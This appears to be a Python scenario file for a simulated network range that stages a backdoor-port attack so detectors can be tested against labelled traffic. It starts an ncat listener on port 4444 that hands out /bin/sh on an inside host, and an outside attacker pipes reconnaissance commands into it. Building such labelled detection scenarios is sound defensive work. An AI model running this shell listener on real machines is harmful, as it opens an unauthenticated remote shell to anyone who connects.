"""A shell behind a port that is known for it."""

from lab.range import Range
from lab.scenario import Scenario

STEPS = ("id", "uname -s", "head -n 12 /etc/services", "ip address show dev eth0", "id")
ORDERS = "; ".join(f"echo {step}; sleep 4" for step in STEPS)


def run(net: Range) -> None:
    attacker, pc3 = net.outside("attacker"), net.inside("pc3")
    net.everyday()
    with net.attack(
        "backdoor-port",
        by=attacker,
        victims=[pc3],
        others={"client": [attacker], "server": [pc3]},
        also=["reverse-shell"],
        frames=f"tcp and dst host {pc3.ip} and dst port 4444",
        responses=f"tcp and src host {pc3.ip} and src port 4444",
    ):
        net.start(pc3, "ncat", "-l", "-p", "4444", "-e", "/bin/sh")
        net.quiet(0.5)
        net.tool(attacker, "sh", "-c", f"({ORDERS}) | ncat {pc3.ip} 4444", seconds=24)
    net.quiet(2)


SCENARIO = Scenario(
    name="backdoor-port-shell",
    about="ncat gives out a shell at port 4444, and somebody outside types commands into it.",
    detectors=("backdoor-port",),
    tools={"ncat": "ncat"},
    run=run,
)
